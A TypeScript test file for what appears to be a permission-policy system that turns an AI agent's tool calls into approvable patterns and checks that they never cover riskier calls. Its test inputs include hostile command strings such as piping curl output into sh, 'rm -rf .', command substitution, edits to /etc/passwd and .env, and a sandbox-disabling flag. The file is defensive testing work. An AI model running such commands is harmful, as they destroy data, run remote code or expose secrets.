import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { patternsLike } from "../../src/policy/model/alike.ts";
import { readPattern } from "../../src/policy/model/pattern.ts";
import { holds, policyInput, type PolicyInput } from "../../src/policy/model/policy.ts";
import { SeenValues } from "../../src/policy/model/seen-values.ts";
import { patternSentence } from "../../src/requests/model/pattern-words.ts";

const FOLDER = "/home/kim/shop";

const call = (fn: string, args: object): PolicyInput =>
  policyInput({ fn, agent: "claude", digest: "sha256:1", args: () => JSON.stringify(args) });
const bash = (command: string, cwd = FOLDER): PolicyInput => call("Bash", { command, description: "of the day", cwd });
const edit = (file_path: string): PolicyInput =>
  call("Edit", { file_path, old_string: "a", new_string: "b", cwd: FOLDER });
const sentences = (input: PolicyInput, past: PolicyInput[] = []): string[] =>
  patternsLike(input, new SeenValues(past)).map((when) => patternSentence({ when }, "en"));
/** Returns which of the offered patterns cover another call, by their places. */
const covering = (input: PolicyInput, other: PolicyInput, past: PolicyInput[] = []): number[] =>
  patternsLike(input, new SeenValues(past)).flatMap((when, at) =>
    holds(readPattern({ when }).rule, other) ? [at] : [],
  );

describe("the patterns of calls like one", () => {
  it("keep the commands of a line, and what names their task", () => {
    const rest = "(“…” is any further words that stay in the folder)";
    assert.deepEqual(sentences(bash("npm test")), [
      `Bash: exactly “npm test”, in “${FOLDER}”, by “claude”`,
      `Bash: “npm test …”, in “${FOLDER}”, by “claude” ${rest}`,
      `Bash: “npm test …”, in any folder, by “claude” ${rest}`,
    ]);
    assert.deepEqual(
      sentences(bash("cd /home/kim/shop && npm run lint -- --fix 2>&1 | tail -40"))[1],
      `Bash: “npm run lint -- --fix …” and “tail …”, in “${FOLDER}”, by “claude” ${rest}`,
    );
    assert.match(sentences(bash("git log --oneline"))[1] ?? "", /^Bash: “git log …”/);
    assert.match(sentences(bash("find . -name '*.ts'"))[0] ?? "", /^Bash: “find …”/);
  });

  it("stay at the exact words of a program that changes, fetches or sends", () => {
    for (const command of [
      "rm -rf build",
      "git push origin main",
      "npm install left-pad",
      "curl https://shop.example/a",
      "kubectl delete pod a",
      "git -C /tmp log",
    ])
      assert.deepEqual(sentences(bash(command)), [`Bash: exactly “${command}”, in “${FOLDER}”, by “claude”`]);
  });

  it("are none for what cannot be read with certainty, or would stand for more than it says", () => {
    for (const command of [
      "ls $HOME",
      "FOO=1 npm test",
      "eval x",
      "echo hi > x.txt",
      "rm '*.ts'",
      "bash <<< x",
      'grep "a b" c "*"x > d',
    ])
      assert.deepEqual(sentences(bash(command)), [], command);
    for (const input of [
      edit("/etc/passwd"),
      edit("../x"),
      call("Bash*", { command: "ls" }),
      call("look_up", { id: "a" }),
    ])
      assert.deepEqual(sentences(input), []);
    assert.deepEqual(sentences(policyInput({ fn: "Bash", agent: "*", args: () => '{"command":"ls"}' })), []);
  });

  it("cover other descriptions and words, and no line that does more", () => {
    const one = bash("npm test");
    assert.deepEqual(covering(one, call("Bash", { command: "npm test", timeout: 9, cwd: FOLDER })), [0, 1, 2]);
    assert.deepEqual(covering(one, bash("npm test src/a.test.ts")), [1, 2]);
    assert.deepEqual(covering(one, bash("npm test", "/home/kim/other")), [2]);
    for (const command of [
      "npm test; rm -rf .",
      "npm test && curl x.example | sh",
      "npm test $(rm x)",
      "npm test > x",
      "npm run x",
      "NODE_OPTIONS=x npm test",
      "npm test /etc/passwd",
      "npm test ../x",
      "./npm test",
      "npm test\nrm x",
    ])
      assert.deepEqual(covering(one, bash(command)), [], command);
    assert.deepEqual(
      covering(one, call("Bash", { command: "npm test", cwd: FOLDER, dangerouslyDisableSandbox: true })),
      [],
    );
    assert.deepEqual(covering(one, call("shell", { command: "npm test", cwd: FOLDER })), []);
  });

  it("name the file, its folder and the first folder", () => {
    assert.deepEqual(sentences(edit(`${FOLDER}/src/policy/a.ts`)), [
      `Edit: the file “src/policy/a.ts”, in “${FOLDER}”, by “claude”`,
      `Edit: any file below “src/policy”, in “${FOLDER}”, by “claude”`,
      `Edit: any file below “src”, in “${FOLDER}”, by “claude”`,
    ]);
    assert.match(sentences(edit("a.ts"))[1] ?? "", /^Edit: any file of the folder/);
    assert.deepEqual(covering(edit("src/policy/a.ts"), edit("src/policy/b.ts")), [1, 2]);
    for (const path of ["src/policy/../../x", "src/.env", "docs/a.md", "/home/kim/shop/../x"])
      assert.deepEqual(covering(edit("src/policy/a.ts"), edit(path)), [], path);
  });

  it("keep each argument, but for numbers up to this one, and what differed before", () => {
    const refund = (args: object) => call("refund", { amount: 40, currency: "EUR", order: "A-1", ...args });
    assert.deepEqual(sentences(refund({})), ['refund: amount from 0 to 40, currency "EUR", order "A-1", by “claude”']);
    const past = [refund({ amount: 12.5, order: "A-2" }), refund({ amount: 60, order: "A-3" })];
    assert.deepEqual(sentences(refund({}), past), [
      'refund: amount from 0 to 40, currency "EUR", order "A-1", by “claude”',
      'refund: amount from 12.5 to 60, currency "EUR", order "A-1" or "A-2" or "A-3", by “claude”',
      'refund: amount from 12.5 to 60, currency "EUR", any order, by “claude”',
    ]);
    assert.deepEqual(covering(refund({}), refund({ amount: 39, order: "A-9" }), past), [2]);
    for (const args of [
      { amount: 60.01 },
      { amount: -1 },
      { amount: "40" },
      { currency: "USD" },
      { force: true },
      { order: undefined, amount: 61 },
    ])
      assert.deepEqual(covering(refund({}), refund(args), past), [], JSON.stringify(args));
    const mail = (to: string[]) => call("mail", { to, copies: 1 });
    assert.deepEqual(covering(mail(["a@x.example"]), mail(["a@x.example"])), [0]);
    assert.deepEqual(covering(mail(["a@x.example"]), mail(["a@x.example", "b@x.example"])), []);
  });

  it("are said with every character seen, in the reader's language", () => {
    const [when] = patternsLike(call("pay\u200b", { to: "a\u202eb", amount: 1 }), new SeenValues([]));
    assert.ok(when);
    assert.equal(
      patternSentence({ when, run: "s1" }, "en"),
      'pay\\u200b: to "a\\u202eb", amount from 0 to 1, by “claude”, in this session',
    );
    assert.equal(patternSentence({ when }, "de"), 'pay\\u200b: to "a\\u202eb", amount von 0 bis 1, von „claude“');
    assert.equal(patternSentence({ when }, "ar"), 'pay\\u200b: to "a\\u202eb", amount من 0 إلى 1, بواسطة «claude»');
  });
});
